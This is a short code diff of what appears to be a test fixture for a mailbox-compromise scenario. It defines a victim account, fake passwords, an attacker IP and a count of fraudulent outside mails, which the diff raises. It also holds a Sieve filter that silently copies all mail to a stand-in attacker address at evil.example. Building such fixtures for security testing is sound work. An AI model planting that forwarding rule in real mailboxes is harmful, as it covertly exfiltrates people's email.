@@ -6,7 +6,7 @@ import { MailServers } from './mail_servers.mjs';
 export const victim = 'marie@chu.test';
 export const password = 'Printemps2026';
 export const attacker = '198.51.100.23';
-export const outside = 30; // fraudulent mails to other houses, which stay in the queue
+export const outside = 55; // fraudulent mails to other houses, which stay in the queue
 export const people = { [victim]: password, 'paul@chu.test': 'Automne-2026', 'direction@chu.test': 'Direction-2026', 'quarantine@chu.test': 'Quarantaine-2026' };
 export const sieve = `require ["copy"];\r\n# filtre\r\nredirect :copy "collecte@evil.example";\r\n`;
 
